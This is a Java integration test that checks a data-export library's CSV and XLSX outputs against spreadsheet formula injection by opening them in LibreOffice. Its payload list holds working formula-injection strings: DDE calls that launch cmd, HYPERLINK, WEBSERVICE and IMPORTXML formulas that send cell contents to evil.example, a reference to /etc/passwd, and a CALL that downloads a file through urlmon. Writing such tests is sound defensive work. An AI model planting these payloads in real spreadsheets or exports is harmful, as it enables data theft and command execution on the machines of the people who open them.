package org.mithaq.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.mithaq.export.csv.CsvExport;
import org.mithaq.export.csv.ExcelCsvExport;
import org.mithaq.export.xlsx.WorkbookExport;

/** Text that would be a formula if a spreadsheet let it: what LibreOffice makes of it when it opens our files. */
final class FormulaInjectionIT {
    /** Comma, double quotes, UTF-8, from line 1; text stays as it is shown, and with the last word formulas are evaluated at opening. */
    private static final String READ = "Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,0,true";

    private static final String[] STARTS = {
        "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "   +", "\u00A0=", "\u3000=", "\uFF1D", "\uFF0B", "\uFF0D",
        "\uFF20", "\u200F=", "\u202B=", "\uFEFF=", "\u2212"
    };

    private static final List<String> FORMULAS = List.of(
            "=1+1+1",
            "=SUM(1,1)",
            "=2*21",
            "=A1",
            "=$A$1&\"x\"",
            "=cmd|'/C calc'!A0",
            "=cmd|' /C notepad'!'A1'",
            "=DDE(\"soffice\";\"file\";\"A1\")",
            "=DDE(\"cmd\",\"/C calc\",\"__DdeLink_60_870516294\")",
            "+cmd|'/C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")",
            "=HYPERLINK(\"https://evil.example\";\"افتح\")",
            "=WEBSERVICE(\"https://evil.example/\"&A1)",
            "=IMPORTXML(CONCAT(\"https://evil.example/?v=\",A1),\"//a\")",
            "=IMPORTDATA(\"https://evil.example\")",
            "=IMAGE(\"https://evil.example/x.png\")",
            "='file:///etc/passwd'#$passwd.A1",
            "=INDIRECT(\"A1\")",
            "=NOW()",
            "=RAND()",
            "=TRUE()",
            "=1/0",
            "=\u0627\u0644\u0639\u0631\u0628\u064A\u0629",
            "{=1+1}",
            "=مصر+1",
            "=SUM(1,1)اتفاق",
            "اتفاق =1+1",
            "وقّعت\t=1+1",
            "وقّعت\n=1+1",
            "\u200F=HYPERLINK(\"https://evil.example\")",
            "'=1+1",
            "''=1+1",
            "\"=1+1\"",
            "=1+1\",\"=2+2",
            "\",=1+1",
            ";=1+1",
            "|=1+1",
            "%0A=1+1",
            "=1+1\r\n=2+2",
            "--1",
            "+-1",
            "=-1",
            "@A1",
            "@SUM(1,1)",
            "=_xlfn.CONCAT(\"a\",\"b\")",
            "=EXEC(\"calc\")",
            "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"https://evil.example\",\"x\",0,0)",
            "=REGISTER.ID(\"kernel32\",\"WinExec\")");

    @TempDir
    private Path folder;

    private static List<String> payloads() {
        List<String> payloads = new ArrayList<>(FORMULAS);
        for (String start : STARTS) {
            payloads.add(start + "1+1");
        }
        return payloads;
    }

    @Test
    void nothingIsEvaluatedAndTheExactTablesKeepTheText() throws Exception {
        LibreOffice office = LibreOffice.orSkip(folder);
        assertThat(payloads()).hasSizeGreaterThanOrEqualTo(60).doesNotHaveDuplicates();
        Edition edition = rows().edition();
        new CsvExport().write(edition, folder);
        new ExcelCsvExport().write(edition, folder);
        new WorkbookExport().write(edition, folder);

        Map<String, String> exact = notes(folder.resolve("csv/entities.csv"));
        assertThat(exact.values()).containsExactlyElementsOf(payloads());

        Path fromWorkbook = Files.createDirectory(folder.resolve("from-workbook"));
        office.convert(LibreOffice.EVERY_SHEET_AS_CSV, "", fromWorkbook, List.of(folder.resolve("accords.xlsx")));
        assertThat(notes(fromWorkbook.resolve("accords-entities.csv"))).containsExactlyEntriesOf(normalised(exact));

        Path fromCsv = Files.createDirectory(folder.resolve("from-csv"));
        Path guarded = folder.resolve("csv-excel/entities.csv");
        office.convert(LibreOffice.EVERY_SHEET_AS_CSV, READ, fromCsv, List.of(guarded));
        assertThat(notes(fromCsv.resolve("entities-entities.csv")))
                .containsExactlyEntriesOf(normalised(notes(guarded)));
    }

    @Test
    void whatIsNotGuardedWouldBeEvaluated() throws Exception {
        LibreOffice office = LibreOffice.orSkip(folder);
        Path bare = folder.resolve("bare.csv");
        Files.writeString(bare, "entity_id,note\r\ne1,=1+1\r\n");

        office.convert(
                LibreOffice.EVERY_SHEET_AS_CSV, READ, Files.createDirectory(folder.resolve("out")), List.of(bare));

        assertThat(notes(folder.resolve("out/bare-bare.csv"))).containsEntry("e1", "2");
    }

    private static InventedRows rows() {
        InventedRows rows = InventedRows.empty();
        List<String> payloads = payloads();
        for (int i = 0; i < payloads.size(); i++) {
            rows.put(
                    "entities",
                    "entity_id",
                    "e" + (100 + i),
                    "name_en",
                    "Name",
                    "entity_type",
                    "unknown",
                    "note",
                    payloads.get(i));
        }
        return rows;
    }

    /** Spreadsheets know one kind of line end. */
    private static Map<String, String> normalised(Map<String, String> notes) {
        Map<String, String> normalised = new TreeMap<>();
        notes.forEach(
                (id, note) -> normalised.put(id, note.replace("\r\n", "\n").replace('\r', '\n')));
        return normalised;
    }

    /** The notes of entities by their ids. */
    private static Map<String, String> notes(Path csv) throws IOException {
        Map<String, String> notes = new TreeMap<>();
        String text = Files.readString(csv, StandardCharsets.UTF_8).replaceFirst("^\uFEFF", "");
        try (CSVParser parser = CSVParser.parse(
                text,
                CSVFormat.RFC4180
                        .builder()
                        .setHeader()
                        .setSkipHeaderRecord(true)
                        .get())) {
            for (CSVRecord row : parser) {
                notes.put(row.get("entity_id"), row.get("note"));
            }
        }
        return notes;
    }
}
